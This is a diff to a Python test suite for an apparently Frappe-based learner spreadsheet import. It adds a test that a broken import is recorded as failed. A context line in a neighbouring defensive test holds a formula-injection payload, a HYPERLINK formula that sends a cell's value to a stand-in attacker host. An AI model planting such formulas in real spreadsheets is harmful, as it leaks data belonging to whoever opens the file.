@@ -367,6 +367,20 @@ def test_a_clash_while_writing_leaves_nothing_behind(world, as_user):
 	assert "Another user registered" in endpoints._failure(clash.value)
 
 
+def test_an_import_that_breaks_down_is_recorded_as_failed(world, as_user):
+	with as_user(world.user("a_coord")):
+		summary = check(workbook([learner_row(world.school_a, i) for i in range(2)]))
+	record = frappe.get_doc("Learner Import", summary["name"])
+	frappe.delete_doc("File", frappe.db.get_value("File", {"file_url": record.import_file}), force=True)
+	with as_user(world.user("a_coord")):
+		result = endpoints.start_import(summary["name"])
+	assert result["status"] == "Failed" and result["message"].startswith(
+		"The import failed and nothing was imported"
+	)
+	assert learners_named() == []
+	assert frappe.db.get_value("Learner Import", summary["name"], "status") == "Failed"
+
+
 def test_formulas_are_refused_and_neutralised_in_the_error_workbook(world, as_user):
 	rows = [learner_row(world.school_a, 0), learner_row(world.school_a, 1)]
 	formulas = {(0, "last_name"): '=HYPERLINK("http://evil.example/?"&C2,"Kalniņa")', (1, "grade"): "=3+4"}
